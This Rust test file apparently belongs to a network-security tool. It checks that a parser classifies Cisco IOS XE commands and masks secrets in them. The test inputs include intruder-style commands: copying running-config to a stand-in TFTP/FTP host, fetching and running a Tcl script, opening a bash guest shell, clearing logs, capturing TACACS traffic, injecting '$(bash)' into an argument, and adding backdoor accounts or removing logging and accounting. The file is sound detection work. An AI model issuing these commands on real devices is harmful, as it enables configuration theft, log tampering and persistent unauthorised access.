use insta::assert_snapshot;
use seawall_model::SecretKey;

use super::*;
use crate::testing::platforms;

/// One line a command: topic, object, address, target, whether negated, and the command if a
/// secret was masked in it.
fn shown(commands: &[&str]) -> String {
    let key = SecretKey::new([7; 32]);
    let mut out = String::new();
    for text in commands {
        let typed = read(&platforms(), Some("cisco-ios-xe"), text, &key);
        let mut line = typed.topic.clone().unwrap_or_else(|| "-".to_owned());
        let mut add = |name: &str, value: Option<String>| {
            if let Some(value) = value {
                line.push_str(&format!(" {name}={value}"));
            }
        };
        add("object", typed.object);
        add("address", typed.address.map(|a| a.to_string()));
        add("target", typed.target);
        add("negated", typed.negated.then(String::new));
        if let Some(secret) = typed.secret {
            add(
                "masked",
                Some(typed.command.replace(&secret.to_mask(), "‹»")),
            );
        }
        out.push_str(&line);
        out.push('\n');
    }
    out
}

#[test]
fn what_intruders_type() {
    assert_snapshot!(shown(&[
        "guestshell enable",
        "guestshell run bash <cr>",
        "guestshell disable",
        "guestshell destroy",
        "copy running-config tftp://192.0.2.9/r1",
        "copy running-config ftp://ann:hunter2@192.0.2.9/r1",
        "copy bootflash:tac.pcap scp://ann@192.0.2.9/x vrf Mgmt",
        "copy tftp://192.0.2.9/x.tcl flash:x.tcl",
        "copy running-config startup-config",
        "show running-config | redirect tftp://192.0.2.9/r1",
        "tftp-server nvram:startup-config",
        "clear logging",
        "monitor capture mycap interface GigabitEthernet1 both",
        "monitor capture mycap match ipv4 protocol tcp any any eq 49",
        "monitor capture mycap start",
        "monitor capture mycap export bootflash:tac.pcap",
        "tclsh flash:map.tcl",
        "request platform software package describe file bootflash:x --filename=$(bash)n",
        "telnet 192.0.2.4 22",
        "ssh -l ann 192.0.2.4",
        "ping vrf Mgmt 192.0.2.4 source Loopback0",
        "delete /force flash:map.tcl",
        "do show clock",
    ]), @"
    guestshell-enable
    guestshell-run target=bash
    guestshell-disable
    guestshell-destroy
    copy-out object=running-config address=192.0.2.9 target=tftp://192.0.2.9/r1
    copy-out object=running-config address=192.0.2.9 target=ftp://ann:‹secret:326eb4f6783e519f198c32929bd28e66›@192.0.2.9/r1 masked=copy running-config ftp://ann:‹»@192.0.2.9/r1
    copy-out object=bootflash:tac.pcap address=192.0.2.9 target=scp://ann@192.0.2.9/x
    copy-in object=tftp://192.0.2.9/x.tcl address=192.0.2.9 target=flash:x.tcl
    write-memory
    copy-out address=192.0.2.9 target=tftp://192.0.2.9/r1
    tftp-server target=nvram:startup-config
    clear-logging
    capture object=mycap
    capture object=mycap target=ipv4 protocol tcp any any eq 49
    capture-start object=mycap
    capture-export object=mycap target=bootflash:tac.pcap
    tclsh object=flash:map.tcl
    package-describe target=file bootflash:x --filename=$(bash)n
    telnet address=192.0.2.4 target=22
    ssh object=ann address=192.0.2.4
    ping address=192.0.2.4 target=source Loopback0
    delete object=flash:map.tcl
    show-clock
    ");
}

#[test]
fn configuration_commands_share_the_templates() {
    assert_snapshot!(shown(&[
        "username ann privilege 15 secret 0 hunter2",
        "no username ann",
        "snmp-server community hunter2 RW 10",
        "access-list 20 permit 192.0.2.5",
        "no access-class 20 in",
        "ip ssh port 22422 rotary 1",
        "tacacs-server host 192.0.2.7 key 7 0822455D0A16",
        "key 7 0822455D0A16",
        "interface Tunnel5",
        "tunnel destination 192.0.2.9",
        "ip address 10.10.12.1 255.255.255.0",
        "no logging host 192.0.2.3",
        "no aaa accounting commands 15 default",
        "ip route 0.0.0.0 0.0.0.0 Tunnel5",
        "monitor session 1 destination interface GigabitEthernet2",
        "no interface Loopback100",
        "key chain LDP",
        "crypto isakmp key hunter2 address 0.0.0.0",
        "event manager applet X",
        "blah secret hunter2",
        "configure terminal ; interface Tunnel5 ; tunnel destination 192.0.2.9",
        "configure terminal ; username ann password hunter2 role network-admin",
        "configure terminal ; username ann password hunter2 ; copy running-config startup-config",
    ]), @r"
    account object=ann masked=username ann privilege 15 secret 0 ‹»
    account object=ann negated=
    snmp-community object=10 masked=snmp-server community ‹» RW 10
    access-list-entry object=20 address=192.0.2.5 target=192.0.2.5
    access-class object=20 negated=
    ssh-port object=22422
    aaa-server address=192.0.2.7 masked=tacacs-server host 192.0.2.7 key 7 ‹»
    aaa-key masked=key 7 ‹»
    interface object=Tunnel5
    tunnel-destination address=192.0.2.9
    interface-address address=10.10.12.1
    logging-host address=192.0.2.3 negated=
    aaa-accounting object=15 negated=
    static-route address=0.0.0.0 target=0.0.0.0 0.0.0.0 Tunnel5
    mirror object=1 target=GigabitEthernet2
    interface object=Loopback100 negated=
    key-chain object=LDP
    ike-key object=0.0.0.0 address=0.0.0.0 masked=crypto isakmp key ‹» address 0.0.0.0
    event-applet object=X
    - masked=blah secret ‹»
    tunnel-destination address=192.0.2.9
    account object=ann masked=configure terminal ; username ann password ‹» role network-admin
    write-memory masked=configure terminal ; username ann password ‹» ; copy running-config startup-config
    ");
}

#[test]
fn however_many_commands_are_joined() {
    let platforms = platforms();
    let hostile = format!(
        "configure terminal{}",
        " ; username x password hunter2".repeat(50_000)
    );
    let typed = read(&platforms, None, &hostile, &SecretKey::new([7; 32]));
    assert_eq!(typed.topic.as_deref(), Some("account"));
    assert!(!typed.command.contains("hunter2"));
}
